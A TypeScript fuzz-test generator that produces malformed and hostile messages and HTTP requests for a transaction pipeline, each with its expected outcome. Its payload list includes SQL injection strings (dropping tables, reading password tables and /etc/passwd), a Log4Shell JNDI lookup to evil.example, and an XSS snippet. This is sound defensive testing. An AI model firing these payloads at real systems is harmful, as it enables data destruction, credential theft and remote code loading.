import { createRandom } from './random';
import type { RejectionReason, StatelessRules } from './rules';
import { EVENT_SIZE_MAX_BYTES, type TransactionEvent } from './transaction';

/**
 * A seeded generator of hostile input for the fuzz tests: malformed bytes, wrong types, injection
 * strings, homoglyphs, duplicate ids, each with the outcome the pipeline owes it. Pure: the same
 * seed yields the same messages, so a failing seed reproduces.
 */

export type HostileExpectation =
  /** Malformed: the DLQ holds the original bytes with a reason. */
  | { outcome: 'dlq' }
  /** Well-formed but against a stateless rule: stored as rejected with this reason. */
  | { outcome: 'rejected'; event: TransactionEvent; reason: RejectionReason }
  /** Well-formed: stored once (applied, or rejected for insufficient funds). */
  | { outcome: 'stored'; event: TransactionEvent }
  /** An id sent before with other content: the first stored wins, this one changes nothing. */
  | { outcome: 'duplicate'; event: TransactionEvent; first: TransactionEvent };

export interface FuzzMessage {
  seq: number;
  /** What was done to the event, e.g. "invalid_utf8"; "valid" for plain traffic. */
  kind: string;
  key: Buffer | string | null;
  value: Buffer | null;
  expect: HostileExpectation;
}

export interface HostileOptions {
  seed: number;
  /** Share of messages that are hostile (0..1); the rest is plain valid traffic. */
  hostileRatio: number;
  rules: StatelessRules;
  accounts?: number;
  /** occurredAt of the first event; ids are time-ordered from it too. */
  baseTimeMs?: number;
}

export const SQL_STRINGS: readonly string[] = [
  "'; DROP TABLE transactions; --",
  "1' OR '1'='1",
  '" OR ""="',
  "1'; UPDATE balances SET balance_minor = 999999999; --",
  "Robert'); DROP TABLE balances;--",
  "\\'; SELECT SLEEP(10); -- ",
  "' UNION SELECT user, password FROM mysql.user --",
  '`; TRUNCATE rollup_minute; `',
  "%' AND 1=0 UNION SELECT NULL, @@version --",
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  "0x27; LOAD DATA INFILE '/etc/passwd' INTO TABLE transactions",
];

/** Characters that look like the ASCII of an account name but are not. */
const HOMOGLYPHS: readonly string[] = ['\u0430', '\u0435', '\u043e', '\u0441', '\u0391', '\uff41', '\u2010', '\u200b', '\u00a0', 'a\u0301', '\u202e', '\u0131'];
const INVALID_UTF8: readonly number[][] = [[0xff], [0xfe], [0xc0, 0xaf], [0x80], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf4, 0x90, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]];
const BAD_DATES: readonly string[] = [
  '1999-12-31T23:59:59.999Z', '2100-01-01T00:00:00Z', '2000-01-01T00:30:00+01:00', '0000-01-01T00:00:00Z', '+275760-09-13T00:00:00Z',
  'yesterday', '2026-13-01T00:00:00Z', '2026-11-25T08:00:00', '2026-11-25T08:00:00+99:99', '2026-11-25T23:59:60Z', '', `2026-11-25T08:00:00.${'1'.repeat(40)}Z`,
];
/** Raw JSON number texts for amountMinor that must all be refused. */
const BAD_AMOUNT_NUMBERS: readonly string[] = ['1e400', '-1e400', '1e-400', '-5', '12.5', '0', '-0', '9223372036854775808', '9007199254740993', '1e19'];
const BAD_AMOUNT_STRINGS: readonly string[] = ['-5', '0', '12.50', '1e3', '0x10', ' 12', '12 ', '+5', '05', '\uff11\uff12', '9223372036854775808', '1234567890123456789012', '', 'NaN', 'Infinity'];
const WRONG_TYPES: readonly unknown[] = [42, true, null, [], {}, [1250], { $gt: '' }, 1.5];
const EXTRA_KEYS: readonly string[] = ['status', 'balance', '__proto__', 'constructor', 'Account', 'amountminor', '', SQL_STRINGS[0] as string, 'id\u0000'];
const REQUIRED_KEYS = ['id', 'account', 'type', 'amountMinor', 'currency', 'occurredAt'] as const;

const hex = (random: () => number, digits: number) => Array.from({ length: digits }, () => Math.floor(random() * 16).toString(16)).join('');

/** Replaces the JSON value of `key` (which must be present) with raw JSON text. */
function withRaw(event: TransactionEvent | Record<string, unknown>, key: string, rawJson: string): string {
  return JSON.stringify({ ...event, [key]: '\u0001placeholder\u0001' }).replace('"\\u0001placeholder\\u0001"', rawJson);
}

/** Adds a key as raw JSON text, so "__proto__" becomes a real own key as a hostile client would send it. */
function withExtraKey(event: TransactionEvent, key: string, rawJson: string): string {
  return `${JSON.stringify(event).slice(0, -1)},${JSON.stringify(key)}:${rawJson}}`;
}

/** A JSON object of exactly `sizeBytes` bytes (≥ 200): a plausible event padded with a long description. */
export function paddedEvent(event: TransactionEvent, sizeBytes: number): Buffer {
  const base = JSON.stringify({ ...event, description: '' });
  return Buffer.from(base.replace('"description":""', `"description":"${'x'.repeat(Math.max(0, sizeBytes - base.length))}"`));
}

export function createHostileGenerator(options: HostileOptions): { next(): FuzzMessage; hostileCount(): number } {
  const random = createRandom(options.seed);
  const accounts = options.accounts ?? 64;
  const baseTimeMs = options.baseTimeMs ?? Date.UTC(2026, 10, 25, 8);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const sent: TransactionEvent[] = []; // well-formed events already sent, for duplicate ids
  let seq = 0;
  let hostile = 0;

  const newId = () => {
    const ms = (baseTimeMs + seq).toString(16).padStart(12, '0');
    return `${ms.slice(0, 8)}-${ms.slice(8, 12)}-7${hex(random, 3)}-${pick(['8', '9', 'a', 'b'])}${hex(random, 3)}-${hex(random, 12)}`;
  };
  const account = (i = Math.floor(random() * accounts)) => `fz-acc-${String(i).padStart(4, '0')}`;
  const amount = () => String(Math.max(1, Math.round(Math.exp(Math.log(100) + random() * (Math.log(50_000) - Math.log(100))))));
  const validEvent = (): TransactionEvent => {
    const roll = random();
    const type = roll < 0.4 ? 'credit' : roll < 0.75 ? 'debit' : 'transfer';
    const from = account();
    let to = account();
    if (to === from) to = account((accounts + Number(from.slice(-4)) + 1) % accounts);
    const currency = random() < 0.8 ? 'EUR' : pick(['USD', 'GBP']);
    const occurredAt = new Date(baseTimeMs + seq * 10).toISOString();
    return { id: newId(), account: from, type, amountMinor: amount(), currency, occurredAt, ...(type === 'transfer' ? { counterparty: to } : {}), description: 'fuzz' };
  };
  const overLimit = () => (BigInt(options.rules.maxAmountMinor) + 1n + BigInt(Math.floor(random() * 1e6))).toString();
  const hostileKey = (e: TransactionEvent): Buffer | string | null =>
    pick<Buffer | string | null>([e.account, e.account, e.account, null, pick(SQL_STRINGS), Buffer.from(pick(INVALID_UTF8)), '']);

  type Made = { kind: string; value: Buffer | string | null; expect: HostileExpectation };
  const dlq = (kind: string, value: Buffer | string | null): Made => ({ kind, value, expect: { outcome: 'dlq' } });
  const stored = (kind: string, event: TransactionEvent): Made => ({ kind, value: JSON.stringify(event), expect: { outcome: 'stored', event } });

  /** Each maker turns a fresh well-formed event into one hostile message. */
  const makers: Array<[number, (e: TransactionEvent) => Made]> = [
    [6, (e) => dlq('invalid_json', pick([JSON.stringify(e).slice(0, 1 + Math.floor(random() * 100)), `${JSON.stringify(e).slice(0, -1)},}`, JSON.stringify(e).replace(/"/g, "'"), 'undefined', '{', '   ', 'NaN', `${JSON.stringify(e)}{}`]))],
    [3, () => dlq('not_an_object', pick(['null', '[]', '[{}]', '42', '"text"', 'true', '-0']))],
    [8, (e) => {
      const key = pick([...REQUIRED_KEYS, 'description']);
      // A safe integer is a valid amountMinor (numbers are allowed); everything else is a wrong type.
      return dlq('wrong_type', withRaw(e, key, JSON.stringify(pick(WRONG_TYPES.filter((v) => key !== 'amountMinor' || !Number.isSafeInteger(v))))));
    }],
    [2, (e) => dlq('wrong_type', JSON.stringify({ ...e, type: 'debit', counterparty: null }))],
    // Just over the parser's limit. Kept ≤ 24 KiB so one batch's DLQ copies stay far below the
    // broker's 1 MiB message.max.bytes (sendToDlq sends a batch as one record batch).
    [3, (e) => dlq('huge', paddedEvent(e, EVENT_SIZE_MAX_BYTES + 1 + Math.floor(random() * 8 * 1024)))],
    [4, (e) => dlq('bad_amount', withRaw(e, 'amountMinor', pick(BAD_AMOUNT_NUMBERS)))],
    [4, (e) => dlq('bad_amount', JSON.stringify({ ...e, amountMinor: pick(BAD_AMOUNT_STRINGS) }))],
    [4, (e) => dlq('unknown_enum', JSON.stringify({ ...e, ...pick<Partial<TransactionEvent> | Record<string, string>>([{ type: 'refund' }, { type: 'DEBIT' }, { type: '' }, { currency: 'eur' }, { currency: 'EURO' }, { currency: '\u20ac' }, { type: 'chargeback' }]) }))],
    [5, (e) => {
      const copy: Record<string, unknown> = { ...e };
      delete copy[e.type === 'transfer' && random() < 0.3 ? 'counterparty' : pick(REQUIRED_KEYS)];
      return dlq('missing_key', JSON.stringify(copy));
    }],
    [5, (e) => dlq('extra_key', withExtraKey(e, pick(EXTRA_KEYS), JSON.stringify(pick<unknown>(['applied', 1e18, { polluted: true }, { prototype: { polluted: true } }, null]))))],
    [8, (e) => dlq('sql_in_field', JSON.stringify({ ...e, [pick(['id', 'account', 'type', 'amountMinor', 'currency', 'occurredAt', 'counterparty'])]: pick(SQL_STRINGS) }))],
    [5, (e) => {
      const bytes = Buffer.from(JSON.stringify(e));
      const at = bytes.indexOf('"fuzz"') + 3; // inside the description string
      return dlq('invalid_utf8', Buffer.concat([bytes.subarray(0, at), Buffer.from(pick(INVALID_UTF8)), bytes.subarray(at)]));
    }],
    [3, (e) => dlq('null_byte', pick([JSON.stringify(e).replace('"account":"', '"account":"\u0000'), JSON.stringify({ ...e, account: `${e.account}\u0000` }), `${JSON.stringify(e)}\u0000`, '\u0000']))],
    [3, () => {
      const depth = 100 + Math.floor(random() * 1100);
      return dlq('deep_nesting', pick([`${'['.repeat(depth * 2)}${']'.repeat(depth * 2)}`, `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`]));
    }],
    [2, (e) => dlq('deep_nesting', withRaw(e, 'account', `${'['.repeat(1000)}"x"${']'.repeat(1000)}`))],
    [2, () => dlq('empty_message', Buffer.alloc(0))],
    [2, () => dlq('tombstone', null)],
    [5, (e) => {
      const field = e.type === 'transfer' && random() < 0.5 ? 'counterparty' : 'account';
      const name = String(e[field]);
      const at = Math.floor(random() * name.length);
      return dlq('homoglyph_account', JSON.stringify({ ...e, [field]: `${name.slice(0, at)}${pick(HOMOGLYPHS)}${name.slice(at + 1)}` }));
    }],
    [4, (e) => dlq('occurred_out_of_range', pick([JSON.stringify({ ...e, occurredAt: pick(BAD_DATES) }), withRaw(e, 'occurredAt', String(baseTimeMs))]))],
    [3, (e) => dlq('bad_id', JSON.stringify({ ...e, id: pick([e.id.toUpperCase(), e.id.replace(/-/g, ''), `${e.id}\n`, `${e.id}0`, '', 'not-a-uuid', `{${e.id}}`]) }))],
    [2, (e) => dlq('counterparty_misuse', JSON.stringify(e.type === 'transfer' ? { ...e, counterparty: undefined } : { ...e, counterparty: account() }))],
    [2, (e) => dlq('description_too_long', JSON.stringify({ ...e, description: pick(SQL_STRINGS).padEnd(141, '-') }))],
    // Well-formed but refused by a stateless rule: stored as rejected, with the reason.
    [3, (e) => {
      const event = { ...e, amountMinor: overLimit() };
      return { kind: 'over_limit', value: JSON.stringify(event), expect: { outcome: 'rejected', event, reason: 'over_limit' } };
    }],
    [3, (e) => {
      const event = { ...e, currency: pick(['XXX', 'JPY', 'CHF', 'ZZZ']) };
      return { kind: 'unsupported_currency', value: JSON.stringify(event), expect: { outcome: 'rejected', event, reason: 'unsupported_currency' } };
    }],
    [2, (e) => {
      const event: TransactionEvent = { ...e, type: 'transfer', counterparty: e.account };
      return { kind: 'self_transfer', value: JSON.stringify(event), expect: { outcome: 'rejected', event, reason: 'self_transfer' } };
    }],
    // Hostile but well-formed: must be stored verbatim (no injection, no mangling).
    [4, (e) => stored('sql_in_description', { ...e, description: pick(SQL_STRINGS) })],
    [2, (e) => stored('odd_description', { ...e, description: pick(['a\u0000b', '\u{1F4B8}\u{1F525} caf\u00e9 \u05e9\u05dc\u05d5\u05dd', '\u202eevil', '\\', '"quoted"', '\u0000'.repeat(140), '\u{1F600}'.repeat(70)]) })],
    [2, (e) => stored('boundary', { ...e, ...pick<Partial<TransactionEvent>>([{ occurredAt: '2000-01-01T00:00:00.000Z' }, { occurredAt: '2099-12-31T23:59:59.999Z' }, { amountMinor: options.rules.maxAmountMinor }, { amountMinor: '1' }, { account: `fz-${'Z'.repeat(61)}` }, { account: 'fz.A:b_c-9' }]) })],
    // The same id again with other content (same key, so the same partition: the first one wins).
    [6, () => {
      const first = pick(sent);
      const event = { ...first, amountMinor: (BigInt(first.amountMinor) + 1n + BigInt(Math.floor(random() * 1000))).toString(), description: 'dup' };
      return { kind: 'duplicate_other_content', value: JSON.stringify(event), expect: { outcome: 'duplicate', event, first } };
    }],
  ];
  const totalWeight = makers.reduce((s, [w]) => s + w, 0);
  const pickMaker = () => {
    let roll = random() * totalWeight;
    for (const [w, make] of makers) if ((roll -= w) < 0) return make;
    return (makers[0] as [number, (e: TransactionEvent) => Made])[1];
  };

  const next = (): FuzzMessage => {
    const base = validEvent();
    let made: Made = stored('valid', base);
    let key: Buffer | string | null = base.account;
    if (sent.length > 0 && random() < options.hostileRatio) {
      made = pickMaker()(base);
      hostile += 1;
      // Well-formed events are keyed by their account, as producers do: an id's resends share a partition.
      key = made.expect.outcome === 'dlq' ? hostileKey(base) : made.expect.event.account;
    }
    if (made.expect.outcome === 'stored' || made.expect.outcome === 'rejected') sent.push(made.expect.event);
    const value = made.value === null ? null : Buffer.isBuffer(made.value) ? made.value : Buffer.from(made.value);
    return { seq: seq++, kind: made.kind, key, value, expect: made.expect };
  };
  return { next, hostileCount: () => hostile };
}

/** A fresh well-formed event for a seed and sequence number (near-limit payloads, tail traffic). */
export function plainCredit(seed: number, seq: number, accountName: string, baseTimeMs = Date.UTC(2026, 10, 25, 9)): TransactionEvent {
  const random = createRandom(seed ^ (seq * 2654435761));
  const ms = (baseTimeMs + seq).toString(16).padStart(12, '0');
  const id = `${ms.slice(0, 8)}-${ms.slice(8, 12)}-7${hex(random, 3)}-a${hex(random, 3)}-${hex(random, 12)}`;
  return { id, account: accountName, type: 'credit', amountMinor: String(100 + seq), currency: 'EUR', occurredAt: new Date(baseTimeMs + seq).toISOString(), description: 'tail' };
}

export interface HostileRequest {
  kind: string;
  headers: Record<string, string>;
  /** A function for the 4 MiB+ bodies, so only the requests that need one build it. */
  body: string | Buffer | (() => Buffer) | undefined;
}

/**
 * Hostile POST /transactions requests, none of which may be accepted: every one breaks at least
 * one rule (key, content type, size, count, JSON, or a field), so nothing may reach Kafka.
 */
export function createHostileRequestGenerator(options: { seed: number; ingestBatchMax: number; bodyLimitBytes: number }): () => HostileRequest {
  const random = createRandom(options.seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const json = { 'content-type': 'application/json' };
  let n = 0;
  const goodKey = () => `fuzz-key-${options.seed}-${n}`;
  const item = (): Record<string, unknown> => ({ account: `fz-http-${n % 50}`, type: 'credit', amountMinor: String(100 + (n % 900)), currency: 'EUR', occurredAt: '2026-11-25T08:00:00Z' });
  const badFields: ReadonlyArray<() => Record<string, unknown> | string> = [
    () => ({ ...item(), [pick(['account', 'type', 'amountMinor', 'currency', 'occurredAt', 'counterparty'])]: pick(SQL_STRINGS) }),
    () => ({ ...item(), account: `fz-${pick(HOMOGLYPHS)}http` }),
    () => ({ ...item(), account: 'fz-http\u0000' }),
    () => ({ ...item(), amountMinor: pick(BAD_AMOUNT_STRINGS) }),
    () => withRaw(item(), 'amountMinor', pick(BAD_AMOUNT_NUMBERS)),
    () => ({ ...item(), [pick(['account', 'type', 'currency', 'occurredAt', 'description'])]: pick(WRONG_TYPES) }),
    () => ({ ...item(), type: pick(['refund', 'DEBIT', '']) }),
    () => ({ ...item(), currency: pick(['eur', 'EURO', '\u20ac']) }),
    () => ({ ...item(), occurredAt: pick(BAD_DATES) }),
    () => ({ ...item(), id: '019a0000-0000-7000-8000-000000000001' }),
    () => ({ ...item(), description: pick(SQL_STRINGS).padEnd(141, '-') }),
    () => ({ ...item(), type: 'transfer' }),
    () => ({ ...item(), counterparty: 'fz-http-other' }),
    () => `${JSON.stringify(item()).slice(0, -1)},${JSON.stringify(pick(EXTRA_KEYS))}:{"polluted":true}}`,
    () => `${JSON.stringify(item()).slice(0, -1)},"constructor":{"prototype":{"polluted":true}}}`,
    () => withRaw(item(), 'account', `${'['.repeat(5000)}"x"${']'.repeat(5000)}`),
    () => {
      const copy = item();
      delete copy[pick(['account', 'type', 'amountMinor', 'currency', 'occurredAt'])];
      return copy;
    },
  ];
  const kinds: Array<[string, () => Omit<HostileRequest, 'kind'>]> = [
    ['no_idempotency_key', () => ({ headers: json, body: JSON.stringify(item()) })],
    ['short_idempotency_key', () => ({ headers: { ...json, 'idempotency-key': 'k'.repeat(1 + Math.floor(random() * 7)) }, body: JSON.stringify(item()) })],
    ['long_idempotency_key', () => ({ headers: { ...json, 'idempotency-key': 'k'.repeat(201 + Math.floor(random() * 100)) }, body: JSON.stringify(item()) })],
    ['odd_idempotency_key', () => ({ headers: { ...json, 'idempotency-key': pick(['has spaces in it', 'schl\u00fcssel-1234', "'; DROP TABLE--", 'abcd\tefgh', 'ab\u00a0cdefgh']) }, body: JSON.stringify(item()) })],
    ['bad_json', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: pick([JSON.stringify(item()).slice(0, 30), '{', "{'a':1}", 'NaN', `${JSON.stringify(item())}}`, '\u0000', '\ufeff{']) })],
    ['empty_body', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: pick(['', undefined]) })],
    ['wrong_content_type', () => ({ headers: { 'content-type': pick(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/jsonx', 'text/json']), 'idempotency-key': goodKey() }, body: JSON.stringify(item()) })],
    ['no_content_type', () => ({ headers: { 'idempotency-key': goodKey() }, body: Buffer.from(JSON.stringify(item())) })],
    ['huge_body', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: () => Buffer.from(`[${Array.from({ length: Math.ceil(options.bodyLimitBytes / 100) + 10 }, () => JSON.stringify(item())).join(',')}]`) })],
    ['too_many_items', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: JSON.stringify(Array.from({ length: options.ingestBatchMax + 1 }, item)) })],
    ['last_item_bad', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: `[${[...Array.from({ length: options.ingestBatchMax - 1 }, () => JSON.stringify(item())), asText(pick(badFields)())].join(',')}]` })],
    ['empty_array', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: '[]' })],
    ['not_an_object', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: pick(['null', '42', '"text"', 'true', '[null]', '[[]]']) })],
    ['deep_nesting', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: `${'['.repeat(200_000)}${']'.repeat(200_000)}` })],
    ['hostile_field', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: asText(pick(badFields)()) })],
    ['hostile_field', () => ({ headers: { ...json, 'idempotency-key': goodKey() }, body: `[${JSON.stringify(item())},${asText(pick(badFields)())}]` })],
  ];
  const weights = kinds.map(([kind]) => (kind === 'hostile_field' ? 12 : kind === 'huge_body' || kind === 'too_many_items' || kind === 'last_item_bad' || kind === 'deep_nesting' ? 0.3 : 1));
  const total = weights.reduce((a, b) => a + b, 0);
  return () => {
    n += 1;
    let roll = random() * total;
    const index = weights.findIndex((w) => (roll -= w) < 0);
    const [kind, make] = kinds[index < 0 ? 0 : index] as [string, () => Omit<HostileRequest, 'kind'>];
    return { kind, ...make() };
  };
}

function asText(v: Record<string, unknown> | string): string {
  return typeof v === 'string' ? v : JSON.stringify(v);
}
